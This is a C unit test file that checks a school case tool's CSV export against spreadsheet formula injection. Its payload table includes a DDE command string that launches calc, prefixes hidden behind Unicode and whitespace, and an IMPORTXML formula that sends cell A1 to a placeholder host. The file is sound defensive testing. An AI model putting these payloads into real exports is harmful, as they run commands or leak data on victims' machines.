/* SPDX-License-Identifier: ISC
 * test_csv.c - what is written for a spreadsheet holds no formula, whatever the
 * words in it, and comes back as what it was. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "src/outlet/csv.h"
#include "tests/cli/run.h"
#include "tests/fixture.h"

/* --- a spreadsheet, as strict as they come ---------------------------------*/

/* The cells of `text`, of one row or several, where `sep` separates them, each
 * ended by a NUL. A quote within a cell that does not begin with one is a
 * letter. */
static size_t read_cells(const char *text, char sep, char *to, size_t room)
{
	const char *end = to + room;
	size_t n = 0;

	for (const char *at = text; *at; n++) {
		bool quoted = *at == '"';

		at += quoted;
		while (*at &&
		       (quoted || (*at != sep && !strchr("\r\n", *at)))) {
			if (quoted && *at == '"' && at[1] != '"') {
				quoted = false;
				at++;
				continue;
			}
			at += quoted && *at == '"';
			assert_true(to + 2 < end);
			*to++ = *at++;
		}
		*to++ = '\0';
		at += *at == sep;
		at += strspn(at, "\r\n");
	}
	return n;
}

/* What a spreadsheet may skip before it decides that this is a formula. */
static const char *past_blanks(const char *cell)
{
	static const char *const blanks[] = {
		" ",        "\t",           "\n",           "\r",
		"\xc2\xa0", "\xe3\x80\x80", "\xe2\x80\x8b", "\xef\xbb\xbf"
	};

	for (size_t i = 0; i < GB_COUNT(blanks); i++)
		if (strncmp(cell, blanks[i], strlen(blanks[i])) == 0) {
			cell += strlen(blanks[i]);
			i = (size_t)-1;
		}
	return cell;
}

static bool is_formula(const char *cell)
{
	static const char *const first[] = { "=",
					     "+",
					     "-",
					     "@",
					     "\xef\xbc\x9d",
					     "\xef\xbc\x8b",
					     "\xef\xbc\x8d",
					     "\xef\xbc\xa0" };

	cell = past_blanks(cell);
	for (size_t i = 0; i < GB_COUNT(first); i++)
		if (strncmp(cell, first[i], strlen(first[i])) == 0)
			return true;
	return false;
}

static void expect_no_formula(const char *row)
{
	for (const char *sep = ",;\t|"; *sep; sep++) {
		char cells[4000];
		const char *at = cells;
		size_t n = read_cells(row, *sep, cells, sizeof(cells));

		for (size_t i = 0; i < n; i++, at += strlen(at) + 1)
			if (is_formula(at))
				fail_msg("\"%s\" of %s is a formula where %c "
					 "separates cells",
					 at, row, *sep);
	}
}

/* --- the table -------------------------------------------------------------*/

static const char *const attacks[] = {
	"=1+1",
	"=cmd|' /C calc'!A0",
	"+1+1",
	"-2+3",
	"@SUM(1,1)",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\r\n=1+1",
	" =1+1",
	"   \t  =1+1",
	"\xc2\xa0=1+1",
	"\xe3\x80\x80=1+1",
	"\xe2\x80\x8b=1+1",
	"\xef\xbb\xbf=1+1",
	"\uff1d1+1",
	"\uff0b1+1",
	"\uff0d2+3",
	"\uff20SUM(1,1)",
	"a,=1+1",
	"a;=1+1",
	"a\t=1+1",
	"a|=1+1",
	"a, =1+1",
	"a;\n+1",
	"a\n=1+1",
	"a\r=1+1",
	"a\",=1+1,\"",
	"a\";=1+1;\"",
	"\"=1+1",
	"\"\"=1+1",
	"\",=1+1",
	"\"\r\n=1+1",
	"a\"\"\r\n\"=1+1",
	"\x01=1+1",
	"\x1b=1+1",
	"\x7f=1+1",
	"=HYPERLINK(\"http://x.invalid\",\"a\")",
	"=IMPORTXML(CONCAT(\"\"http://x.invalid?\"\",A1),\"\"//a\"\")",
	"-",
	"=",
	"+",
	"@",
	"--1",
	"+-1",
	"=\xef\xbc\x9d",
};

static void no_cell_is_a_formula(void **state)
{
	(void)state;
	for (size_t i = 0; i < GB_COUNT(attacks); i++) {
		struct gb_buf out = { 0 };

		gb_csv_cell(&out, "KDR-482", 7);
		gb_csv_cell(&out, attacks[i], strlen(attacks[i]));
		gb_csv_cell(&out, "after", 5);
		gb_csv_cell(&out, attacks[i], strlen(attacks[i]));
		gb_csv_end_row(&out);
		expect_no_formula(gb_buf_string(&out));
		/* One row, whatever was in it. */
		assert_ptr_equal(strpbrk(gb_buf_string(&out), "\r\n"),
				 gb_buf_string(&out) + out.len - 2);
		gb_buf_free(&out);
	}
}

/* The check itself sees what is not neutralised. */
static void the_spreadsheet_would_see_one(void **state)
{
	char cells[200];

	(void)state;
	assert_int_equal(read_cells("\"a\",\"b\"\"c\",\"=1\"\r\n", ',', cells,
				    sizeof(cells)),
			 3);
	assert_string_equal(cells, "a");
	assert_string_equal(cells + 2, "b\"c");
	assert_true(is_formula(cells + 6));
	assert_true(is_formula(" \xc2\xa0\t=1"));
	assert_false(is_formula("'=1"));
}

static void a_row_is_as_it_should_be(void **state)
{
	static const struct {
		const char *text, *cell;
		size_t n;
	} table[] = {
		{ "plain", "\"plain\"", 5 },
		{ "", "\"\"", 0 },
		{ "T\xc5\xb7 Gwyn \u00a345", "\"T\xc5\xb7 Gwyn \u00a345\"",
		  13 },
		{ "a \"page\"", "\"a \"\"page\"\"\"", 8 },
		{ "one\ntwo\tthree", "\"one two three\"", 13 },
		{ "a\0b", "\"ab\"", 3 },
		{ "5 - 3, and @x", "\"5 - 3, and @x\"", 13 },
		{ "a; -1", "\"a; '-1\"", 5 },
		{ "=1", "\"'=1\"", 2 },
		{ "  =1", "\"  '=1\"", 4 },
		{ "'=1", "\"'=1\"", 3 },
		{ "\xef\xbc", "\"\xef\xbc\"", 2 },
	};

	(void)state;
	for (size_t i = 0; i < GB_COUNT(table); i++) {
		struct gb_buf out = { 0 };

		gb_csv_cell(&out, table[i].text, table[i].n);
		assert_string_equal(gb_buf_string(&out), table[i].cell);
		gb_buf_free(&out);
	}
}

/* --- the program -----------------------------------------------------------*/

#define HOSTILE "=cmd|' /C calc'!A0"

static void the_list_of_cases_holds_none(void **state)
{
	struct desk *d = *state;
	char cells[8000];
	struct run r;

	json_decref(as_json(&r, d, "teacher", NULL, "log", "--json", "--type",
			    "cyberbullying", "--about", "pupil:Ann Roberts",
			    "--field", "title=" HOSTILE, "--text",
			    "A page asks for money.", NULL));
	as(&r, d, "dsl", NULL, "list", "--csv", NULL);
	expect_exit(&r, 0);
	assert_memory_equal(r.out, GB_CSV_START "\"Case\",\"Kind\"", 16);
	expect_no_formula(r.out + 3);
	assert_non_null(strstr(r.out, "\"'" HOSTILE "\""));
	/* Sorts of people, and nobody's name. */
	assert_non_null(strstr(r.out, "\"pupil\""));
	assert_null(strstr(r.out, "Ann Roberts"));
	/* All of its rows have as many cells. */
	assert_int_equal(read_cells(r.out + 3, ',', cells, sizeof(cells)) % 11,
			 0);
	run_free(&r);
	as(&r, d, "dsl", NULL, "search", "--csv", "money", NULL);
	expect_exit(&r, 0);
	assert_non_null(strstr(r.out, HOSTILE));
	run_free(&r);
	as(&r, d, "dsl", NULL, "list", "--csv", "--json", NULL);
	expect_exit(&r, 2);
	run_free(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_spreadsheet_would_see_one),
		cmocka_unit_test(a_row_is_as_it_should_be),
		cmocka_unit_test(no_cell_is_a_formula),
		cmocka_unit_test(the_list_of_cases_holds_none),
	};

	return cmocka_run_group_tests_name("csv", tests, desk_setup,
					   desk_teardown);
}
